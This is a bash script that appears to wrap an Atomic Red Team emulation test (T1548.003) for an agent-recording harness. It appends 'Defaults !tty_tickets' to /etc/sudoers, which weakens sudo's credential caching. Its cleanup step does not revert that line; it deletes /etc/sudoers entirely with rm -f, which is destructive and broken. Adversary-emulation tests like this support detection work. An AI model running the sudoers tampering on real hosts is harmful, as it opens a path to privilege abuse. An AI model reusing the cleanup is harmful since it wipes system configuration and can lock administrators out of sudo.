#!/usr/bin/env bash
# Atomic Red Team T1548.003-5: Disable tty_tickets for sudo caching
# atomic GUID 91a60b03-fb75-4d24-a42e-2eb8956e8de1; technique T1548.003
# record.sh runs `case.sh run DIR` under the agent (recorded), then `case.sh cleanup DIR`.
W="${2:?usage: $0 run|cleanup DIR}"
cd "$W" || exit 1
run() {
    sh -c "echo Defaults "'!'"tty_tickets >> /etc/sudoers"
    visudo -c -f /etc/sudoers >/dev/null 2>&1
}
cleanup() {
    rm -f /etc/sudoers
}
"$1"
